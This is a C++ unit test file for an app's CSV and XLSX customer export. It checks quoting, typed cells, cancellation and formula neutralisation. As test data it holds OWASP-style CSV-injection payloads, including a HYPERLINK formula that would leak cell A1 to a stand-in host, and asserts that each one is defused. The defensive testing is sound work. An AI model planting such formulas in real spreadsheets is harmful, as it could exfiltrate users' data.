// CSV and XLSX export: formula neutralisation, RFC 4180 quoting, typed cells, round trips through our
// own readers, and that a cancel leaves no file. The XLSX is read back by XlsxReader (QuaZip) in this
// same process, the case in which libxlsxwriter and QuaZip used to clash.

#include "export/CustomerExport.h"

#include "TestSupport.h"
#include "export/CsvTableWriter.h"
#include "export/ExportError.h"
#include "export/FormulaGuard.h"
#include "export/XlsxTableWriter.h"
#include "import/SpreadsheetReader.h"
#include "storage/ActivityRepository.h"
#include "storage/CustomerRepository.h"
#include "storage/WriteTransaction.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <quazip.h>
#include <quazipfile.h>

#include <gtest/gtest.h>

using namespace clientele;

namespace {

QList<QList<CellValue>> readAll(const QString& path)
{
    auto reader = SpreadsheetReader::open(path);
    reader->selectSheet(0);
    QList<QList<CellValue>> rows;
    QList<CellValue> cells;
    while (reader->readRow(cells))
        rows << cells;
    return rows;
}

QByteArray zipEntry(const QString& path, const QString& name)
{
    QuaZip zip(path);
    if (!zip.open(QuaZip::mdUnzip) || !zip.setCurrentFile(name))
        return {};
    QuaZipFile file(&zip);
    if (!file.open(QIODevice::ReadOnly))
        return {};
    return file.readAll();
}

QByteArray fileBytes(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// The files in a folder, so a test can see that nothing (not even a temporary file) was left.
QStringList filesIn(const QString& folder)
{
    return QDir(folder).entryList(QDir::Files | QDir::Hidden | QDir::NoDotAndDotDot);
}

const QList<ExportColumn> kColumns = {
    {QStringLiteral("Code"), ExportColumn::Type::Text},
    {QStringLiteral("Name"), ExportColumn::Type::Text},
    {QStringLiteral("Amount"), ExportColumn::Type::Number},
    {QStringLiteral("Since"), ExportColumn::Type::Date},
};

class ExportTest : public ::testing::Test
{
protected:
    QString out(const QString& name) const { return ws.path(QStringLiteral("out/") + name); }
    void SetUp() override { QDir(ws.path({})).mkpath(QStringLiteral("out")); }

    void insertCustomers(int count)
    {
        WriteTransaction tx(db->connection(), db->dialect());
        CustomerRepository customers(db->connection(), db->dialect());
        ActivityRepository activity(db->connection(), db->dialect());
        const std::int64_t vip = activity.ensureTag(QStringLiteral("vip"), TagKind::Static);
        const std::int64_t dyn = activity.ensureTag(QStringLiteral("高频互动"), TagKind::Dynamic);
        for (int i = 1; i <= count; ++i) {
            Customer c;
            c.code = QStringLiteral("%1").arg(i, 6, 10, QLatin1Char('0')); // leading zeros must survive
            c.name =
                i == 1 ? QStringLiteral("=HYPERLINK(\"http://x?\"&A1)") : QStringLiteral("客户 %1").arg(i);
            c.kind = i % 2 == 0 ? CustomerKind::Business : CustomerKind::Consumer;
            c.owner = i % 2 == 0 ? QStringLiteral("Ann") : QStringLiteral("Bo");
            c.phone = QStringLiteral("+86 138 0000 %1").arg(i, 4, 10, QLatin1Char('0'));
            c.contactLimitPerMonth = i % 4;
            c.createdOn = QDate(2023, 1, 1).addDays(i);
            customers.insert(c);
            ids << c.id;
            if (i % 2 == 0)
                activity.assignTag(c.id, vip);
            if (i % 3 == 0)
                activity.assignTag(c.id, dyn);
        }
        tx.commit();
    }

    test::TempWorkspace ws;
    std::unique_ptr<Database> db = ws.openDatabase();
    QList<std::int64_t> ids;
};

} // namespace

TEST(FormulaGuardTest, PrefixesEveryRiskyFirstCharacterAndNothingElse)
{
    const QStringList risky = {QStringLiteral("=1+2"), QStringLiteral("+1"),
                               QStringLiteral("-50"),  QStringLiteral("@SUM(A1)"),
                               QStringLiteral("\tx"),  QStringLiteral("\rx"),
                               QStringLiteral("\nx"),  QString(QChar(0)) + QStringLiteral("x")};
    for (const QString& text : risky) {
        EXPECT_TRUE(FormulaGuard::isRisky(text));
        EXPECT_EQ(FormulaGuard::neutralise(text), QString(QLatin1Char('\'') + text));
    }
    for (const QString& safe : {QString(), QStringLiteral("a=1"), QStringLiteral("00123"),
                                QStringLiteral("客户"), QStringLiteral(" =1"), QStringLiteral("'=1")})
        EXPECT_EQ(FormulaGuard::neutralise(safe), safe);
}

TEST(CsvTableWriterTest, QuotesAndNeutralisesTextByteForByte)
{
    using Type = ExportColumn::Type;
    // The OWASP examples: the separator and quote inside the value stay inside one quoted field.
    EXPECT_EQ(CsvTableWriter::field(QStringLiteral("=1+2\";=1+2"), Type::Text),
              QStringLiteral("\"'=1+2\"\";=1+2\""));
    EXPECT_EQ(CsvTableWriter::field(QStringLiteral("=1+2'\" ;,=1+2"), Type::Text),
              QStringLiteral("\"'=1+2'\"\" ;,=1+2\""));
    EXPECT_EQ(CsvTableWriter::field(QStringLiteral("=HYPERLINK(\"http://x?\"&A1)"), Type::Text),
              QStringLiteral("\"'=HYPERLINK(\"\"http://x?\"\"&A1)\""));
    // Numbers from typed values stay numbers, negative ones too; text that looks negative does not.
    EXPECT_EQ(CsvTableWriter::field(-50, Type::Number), QStringLiteral("-50"));
    EXPECT_EQ(CsvTableWriter::field(-12.5, Type::Number), QStringLiteral("-12.5"));
    EXPECT_EQ(CsvTableWriter::field(QStringLiteral("-50"), Type::Text), QStringLiteral("\"'-50\""));
    EXPECT_EQ(CsvTableWriter::field(QDate(2024, 3, 1), Type::Date), QStringLiteral("2024-03-01"));
    EXPECT_EQ(CsvTableWriter::field(QStringLiteral("00123"), Type::Text), QStringLiteral("\"00123\""));
    EXPECT_EQ(CsvTableWriter::field(QVariant(), Type::Number), QString());
    EXPECT_EQ(CsvTableWriter::field(QStringLiteral("two\r\nlines"), Type::Text),
              QStringLiteral("\"two\r\nlines\""));
}

TEST_F(ExportTest, CsvIsUtf8WithBomCrlfAndReadsBackThroughOurReader)
{
    const QString path = out(QStringLiteral("table.csv"));
    {
        CsvTableWriter writer(path);
        writer.begin(kColumns);
        writer.writeRow({QStringLiteral("00123"), QStringLiteral("=1+2\";=1+2"), -50, QDate(2024, 3, 1)});
        writer.writeRow({QStringLiteral("00124"), QStringLiteral("北京 \"甲\" 公司"), 1234.5, QVariant()});
        writer.commit();
    }
    const QByteArray bytes = fileBytes(path);
    const QByteArray expected = "\xEF\xBB\xBF\"Code\",\"Name\",\"Amount\",\"Since\"\r\n"
                                "\"00123\",\"'=1+2\"\";=1+2\",-50,2024-03-01\r\n" +
                                QStringLiteral("\"00124\",\"北京 \"\"甲\"\" 公司\",1234.5,\r\n").toUtf8();
    EXPECT_EQ(bytes, expected);

    const auto rows = readAll(path);
    ASSERT_EQ(rows.size(), 3);
    EXPECT_EQ(rows.at(0).at(0).text, QStringLiteral("Code")); // the BOM is not part of the first header
    EXPECT_EQ(rows.at(1).at(0).text, QStringLiteral("00123"));
    EXPECT_EQ(rows.at(1).at(1).text, QStringLiteral("'=1+2\";=1+2"));
    EXPECT_EQ(rows.at(1).at(2).text, QStringLiteral("-50"));
    EXPECT_EQ(rows.at(2).at(1).text, QStringLiteral("北京 \"甲\" 公司"));
    EXPECT_EQ(filesIn(out({})), QStringList{QStringLiteral("table.csv")});
}

TEST_F(ExportTest, XlsxKeepsTypesAndReadsBackInAProcessThatHasQuaZip)
{
    const QString path = out(QStringLiteral("table.xlsx"));
    const QString longText = QString(40000, QLatin1Char('x'));
    {
        XlsxTableWriter writer(path, QStringLiteral("客户"));
        writer.begin(kColumns);
        writer.writeRow({QStringLiteral("00123"), QStringLiteral("=1+2\";=1+2"), -50.25, QDate(2024, 3, 1)});
        writer.writeRow({QStringLiteral("00124"), QStringLiteral("北京甲公司"), 7, QDate(1999, 12, 31)});
        writer.writeRow({QStringLiteral("00125"), longText, QVariant(), QVariant()});
        writer.commit();
    }
    ASSERT_TRUE(QFileInfo::exists(path));
    EXPECT_EQ(fileBytes(path).left(2), QByteArray("PK"));

    const auto rows = readAll(path);
    ASSERT_EQ(rows.size(), 4);
    EXPECT_EQ(rows.at(0).at(2).text, QStringLiteral("Amount"));
    // Ids are text with their zeros; numbers are numbers; dates are dates.
    EXPECT_EQ(rows.at(1).at(0).type, CellValue::Type::Text);
    EXPECT_EQ(rows.at(1).at(0).text, QStringLiteral("00123"));
    EXPECT_EQ(rows.at(1).at(1).text, QStringLiteral("'=1+2\";=1+2"));
    EXPECT_EQ(rows.at(1).at(2).type, CellValue::Type::Number);
    EXPECT_DOUBLE_EQ(rows.at(1).at(2).number, -50.25);
    EXPECT_EQ(rows.at(1).at(3).type, CellValue::Type::DateTime);
    EXPECT_EQ(rows.at(1).at(3).dateTime.date(), QDate(2024, 3, 1));
    EXPECT_EQ(rows.at(2).at(1).text, QStringLiteral("北京甲公司"));
    EXPECT_EQ(rows.at(2).at(3).dateTime.date(), QDate(1999, 12, 31));
    // Longer than Excel allows: cut at 32,767 characters with a marker.
    EXPECT_EQ(rows.at(3).at(1).text.size(), XlsxTableWriter::kMaxTextLength);
    EXPECT_TRUE(rows.at(3).at(1).text.endsWith(XlsxTableWriter::marker()));
    EXPECT_TRUE(rows.at(3).value(2).isEmpty());

    // User text never becomes a formula element.
    const QByteArray sheet = zipEntry(path, QStringLiteral("xl/worksheets/sheet1.xml"));
    ASSERT_FALSE(sheet.isEmpty());
    EXPECT_FALSE(sheet.contains("<f>"));
    EXPECT_FALSE(sheet.contains("<f "));
    const QByteArray workbook = zipEntry(path, QStringLiteral("xl/workbook.xml"));
    EXPECT_TRUE(workbook.contains(QStringLiteral("客户").toUtf8()));
    EXPECT_EQ(filesIn(out({})), QStringList{QStringLiteral("table.xlsx")});
}

TEST_F(ExportTest, DiscardedWritersLeaveNoFileAndKeepAnOlderOne)
{
    const QString csv = out(QStringLiteral("keep.csv"));
    const QString xlsx = out(QStringLiteral("keep.xlsx"));
    for (const QString& path : {csv, xlsx}) {
        QFile old(path);
        ASSERT_TRUE(old.open(QIODevice::WriteOnly));
        old.write("older export");
    }
    {
        CsvTableWriter writer(csv);
        writer.begin(kColumns);
        writer.writeRow({QStringLiteral("1"), QStringLiteral("a"), 1, QDate(2024, 1, 1)});
        // Destroyed without commit().
    }
    {
        XlsxTableWriter writer(xlsx);
        writer.begin(kColumns);
        writer.writeRow({QStringLiteral("1"), QStringLiteral("a"), 1, QDate(2024, 1, 1)});
        writer.discard();
    }
    EXPECT_EQ(fileBytes(csv), QByteArray("older export"));
    EXPECT_EQ(fileBytes(xlsx), QByteArray("older export"));
    EXPECT_EQ(filesIn(out({})), (QStringList{QStringLiteral("keep.csv"), QStringLiteral("keep.xlsx")}));
}

TEST_F(ExportTest, ExportsTheFilteredListWithTagsAndTypedCells)
{
    insertCustomers(1200); // more than two export chunks
    for (const ExportFormat format : {ExportFormat::Csv, ExportFormat::Xlsx}) {
        CustomerExportRequest request;
        request.format = format;
        request.filePath =
            out(format == ExportFormat::Xlsx ? QStringLiteral("ann.xlsx") : QStringLiteral("ann.csv"));
        request.query.owner = QStringLiteral("Ann");
        request.query.sortKey = CustomerQuery::SortKey::Code;
        request.query.ascending = false;
        int calls = 0;
        const CustomerExportResult result =
            CustomerExport::run(db->connection(), db->dialect(), request, [&](int done, int total) {
                EXPECT_EQ(total, 600);
                EXPECT_LE(done, total);
                ++calls;
                return true;
            });
        EXPECT_FALSE(result.cancelled);
        EXPECT_EQ(result.rows, 600);
        EXPECT_GE(calls, 3);

        const auto rows = readAll(request.filePath);
        ASSERT_EQ(rows.size(), 601) << request.filePath.toStdString();
        const QList<ExportColumn> columns = CustomerExport::columns();
        ASSERT_EQ(rows.at(0).size(), columns.size());
        const auto column = [&](const QString& header) {
            for (qsizetype i = 0; i < columns.size(); ++i)
                if (columns.at(i).header == header)
                    return static_cast<int>(i);
            return -1;
        };
        const QList<CellValue>& first = rows.at(1); // code 001200, descending
        EXPECT_EQ(first.at(column(QStringLiteral("Code"))).text, QStringLiteral("001200"));
        EXPECT_EQ(first.at(column(QStringLiteral("Owner"))).text, QStringLiteral("Ann"));
        EXPECT_EQ(first.at(column(QStringLiteral("Tags"))).text, QStringLiteral("vip, 高频互动"));
        // The phone starts with "+": guarded like any other text.
        EXPECT_EQ(first.at(column(QStringLiteral("Phone"))).text, QStringLiteral("'+86 138 0000 1200"));
        EXPECT_EQ(rows.at(2).at(column(QStringLiteral("Code"))).text, QStringLiteral("001198"));
        const CellValue& limit = rows.at(2).at(column(QStringLiteral("Contacts per month (max)")));
        const CellValue& since = rows.at(2).at(column(QStringLiteral("Customer since")));
        if (format == ExportFormat::Xlsx) {
            EXPECT_EQ(limit.type, CellValue::Type::Number);
            EXPECT_DOUBLE_EQ(limit.number, 1198 % 4);
            EXPECT_EQ(since.type, CellValue::Type::DateTime);
            EXPECT_EQ(since.dateTime.date(), QDate(2023, 1, 1).addDays(1198));
        } else {
            EXPECT_EQ(limit.text, QString::number(1198 % 4));
            EXPECT_EQ(since.text, QDate(2023, 1, 1).addDays(1198).toString(Qt::ISODate));
        }
    }
}

TEST_F(ExportTest, ExportsChosenCustomersInTheirOrderAndGuardsTheirNames)
{
    insertCustomers(5);
    CustomerExportRequest request;
    request.format = ExportFormat::Xlsx;
    request.filePath = out(QStringLiteral("chosen.xlsx"));
    request.customerIds = {ids.at(3), ids.at(0)};
    const CustomerExportResult result = CustomerExport::run(db->connection(), db->dialect(), request);
    EXPECT_EQ(result.rows, 2);
    const auto rows = readAll(request.filePath);
    ASSERT_EQ(rows.size(), 3);
    EXPECT_EQ(rows.at(1).at(0).text, QStringLiteral("000004"));
    EXPECT_EQ(rows.at(2).at(0).text, QStringLiteral("000001"));
    EXPECT_EQ(rows.at(2).at(1).text, QStringLiteral("'=HYPERLINK(\"http://x?\"&A1)"));
}

TEST_F(ExportTest, ACancelLeavesNoFileBehind)
{
    insertCustomers(2000);
    for (const ExportFormat format : {ExportFormat::Csv, ExportFormat::Xlsx}) {
        CustomerExportRequest request;
        request.format = format;
        request.filePath =
            out(format == ExportFormat::Xlsx ? QStringLiteral("big.xlsx") : QStringLiteral("big.csv"));
        // Cancel after some rows have been written.
        const CustomerExportResult result = CustomerExport::run(db->connection(), db->dialect(), request,
                                                                [](int done, int) { return done < 1000; });
        EXPECT_TRUE(result.cancelled);
        EXPECT_EQ(result.rows, 0);
        EXPECT_FALSE(QFileInfo::exists(request.filePath));
        EXPECT_TRUE(filesIn(out({})).isEmpty()) << filesIn(out({})).join(QLatin1Char(' ')).toStdString();
    }
}

TEST_F(ExportTest, AnUnwritableTargetIsAClearError)
{
    insertCustomers(3);
    for (const ExportFormat format : {ExportFormat::Csv, ExportFormat::Xlsx}) {
        CustomerExportRequest request;
        request.format = format;
        request.filePath = ws.path(QStringLiteral("no-such-folder/customers.file"));
        try {
            CustomerExport::run(db->connection(), db->dialect(), request);
            ADD_FAILURE() << "no error";
        } catch (const ExportError& e) {
            EXPECT_TRUE(e.message().contains(QStringLiteral("customers.file"))) << e.message().toStdString();
        }
    }
}
